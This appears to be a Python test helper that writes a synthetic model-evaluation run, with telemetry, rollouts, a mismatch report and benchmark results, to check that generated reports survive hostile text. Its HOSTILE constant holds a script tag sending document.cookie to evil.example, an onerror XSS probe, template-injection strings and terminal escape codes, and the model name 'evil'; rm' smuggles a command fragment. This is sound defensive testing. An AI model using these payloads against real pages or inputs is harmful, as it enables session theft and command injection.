"""A synthetic run that has everything a report can show, hostile text included."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl

from profiles.load import load_profile
from tasks.comparison.equivalence import validate_run
from tasks.comparison.mismatch_report import publish_mismatch
from tasks.files import publish_json, publish_parquet, read_json
from tasks.generation.generation_log import GenerationSession, add_session
from tasks.generation.rung_state import RungChange, RungState
from tasks.node.telemetry import TELEMETRY_SCHEMA
from tasks.plan.run_config import RunConfig
from tasks.records import RunPaths, shard_indices
from tasks.results.run_report import ErrorCount, publish_report
from tasks.results.summary import summarize_run
from tests.support.mismatch import mismatch_report
from tests.support.synthetic import publish_shard, write_run

HOSTILE = (
    "<script>fetch('https://evil.example/'+document.cookie)</script><img src=https://evil.example/x.png "
    "onerror=alert(1)>\"'`${7*7}{{7*7}}</pre></details></body>\x1b[31m\x1b]0;owned\x07\u202e"
    + "https://evil.example/"
    + "A" * 200_000
)
STARTED = datetime(2026, 10, 1, 9, 0, tzinfo=UTC)


def write_report_run(root: Path, **arguments: Any) -> RunPaths:
    """A run of two sessions on two GPUs with an OOM rung and a restart, compared and benchmarked."""
    baseline = write_run(root.parent / "baseline", truncated=0.1, error_rows=0.02, **arguments)
    run = write_run(root, divergence=0.2, variant=1, truncated=0.1, error_rows=0.02, **arguments)
    for paths in (baseline, run):
        for index in shard_indices(paths.root / "rollouts"):
            _make_hostile(paths, index)
    _write_telemetry(run)
    validate_run(run.root, baseline.root)
    publish_mismatch(mismatch_report(HOSTILE), run.root)
    _write_config(run)
    _write_report(run)
    _write_bench(run)
    publish_json(
        {
            "worst": "warn",
            "checks": [
                {"name": "disk", "status": "warn", "value": HOSTILE[:80], "limit": "1 GiB", "remedy": "", "gpu": 0}
            ],
        },
        run.preflight,
    )
    return run


def _make_hostile(run: RunPaths, index: int) -> None:
    rollouts = pl.read_parquet(run.rollouts(index))
    message = pl.struct(role=pl.lit("user"), content=pl.lit(HOSTILE))
    failed = pl.col("error").is_not_null()
    publish_shard(
        rollouts.with_columns(
            prompt=pl.concat_list(message),
            completion=pl.when(~failed).then(pl.lit(HOSTILE)),
            error=pl.when(failed).then(pl.lit(HOSTILE)),
            ground_truth=pl.lit(HOSTILE),
        ),
        run.rollouts(index),
    )
    scores = pl.read_parquet(run.scores(index))
    publish_shard(scores.with_columns(extracted_answer=pl.lit(HOSTILE)), run.scores(index))


def _write_telemetry(run: RunPaths) -> None:
    rows = []
    for session in (0, 1):
        first = STARTED + timedelta(hours=session)
        tokens = 0
        for second in range(240):
            moment = {"time": first + timedelta(seconds=second), "session": first}
            busy = second > 60
            tokens = 0 if second == 150 else tokens + 900 * busy
            rows += [
                {
                    **moment,
                    "source": "gpu",
                    "index": gpu,
                    "utilization_percent": 93.0 + second % 5 if busy else 0.0,
                    "memory_used": (70 << 30) if busy else (5 << 30),
                    "temperature_c": 66,
                    "power_w": 610.0,
                }
                for gpu in (0, 1)
            ]
            rows.append(
                {
                    **moment,
                    "source": "replica",
                    "index": 0,
                    "running": 64 * busy,
                    "waiting": 0,
                    "kv_cache_usage": 0.4,
                    "preemptions": 0,
                    "prefix_cache_hits": 10,
                    "prefix_cache_queries": 20,
                    "generation_tokens": tokens,
                }
            )
    publish_parquet(pl.DataFrame(rows, schema=TELEMETRY_SCHEMA), run.telemetry)


def _write_config(run: RunPaths) -> None:
    config = RunConfig.model_validate({"profile": "h100x8", "dataset": {"path": "openai/gsm8k"}, "model": "evil'; rm"})
    publish_json(
        {
            **read_json(run.config),
            "config": config.model_dump(mode="json"),
            "profile": load_profile("h100x8").model_dump(mode="json"),
            "model": {"name": "evil'; rm"},
        },
        run.config,
    )


def _write_report(run: RunPaths) -> None:
    session = GenerationSession(
        started_at=STARTED.isoformat(),
        seconds=360.0,
        start_seconds=121.5,
        tokens=300_000,
        rollouts=10,
        restarts=1,
        replicas=4,
        gpus=2,
        mps="MPS on: a daemon of the run's own",
    )
    change = RungChange(
        at=(STARTED + timedelta(seconds=120)).isoformat(),
        from_rung=0,
        to_rung=1,
        kind="device",
        phase="run",
        reason=HOSTILE[:200],
        settings={},
    )
    add_session(run.state / "generation.json", session)
    RungState(run.state / "oom_ladder.json").step_down(change)
    report = summarize_run(run.root)
    hostile = replace(
        report,
        model=HOSTILE[:60],
        dataset=HOSTILE[:60],
        errors=(ErrorCount(error=HOSTILE, count=report.num_errors),),
        gold_suspects=2,
        mean_reward_without_suspects=0.4567,
        rollouts_per_rung={"0": 10, "1": report.num_rollouts - 10},
    )
    publish_report(hostile, run.root)


def _write_bench(run: RunPaths) -> None:
    def spread(value: float) -> dict[str, float]:
        return {"mean": value, "low": value * 0.9, "high": value * 1.1}

    standings = [
        {
            "contestant": name,
            "seconds": spread(seconds),
            "start_seconds": spread(30.0),
            "sequences_per_s": spread(400 / seconds),
            "tokens_per_s": spread(90_000 / seconds),
            "speedup": None if name == "pipeline" else spread(seconds / 40),
        }
        for name, seconds in (("baseline", 240.0), ("script", 90.0), ("pipeline", 40.0))
    ]
    publish_json(
        {
            "profile": "h100x8",
            "model": "evil'; rm",
            "questions": 50,
            "rollouts": 400,
            "standings": standings,
            "measurements": [{"repeat": repeat} for repeat in range(3)],
            "equivalence": {"pipeline": {"verdict": "numerical"}},
        },
        run.root.parent / "bench-h100-20261001" / "bench.json",
    )
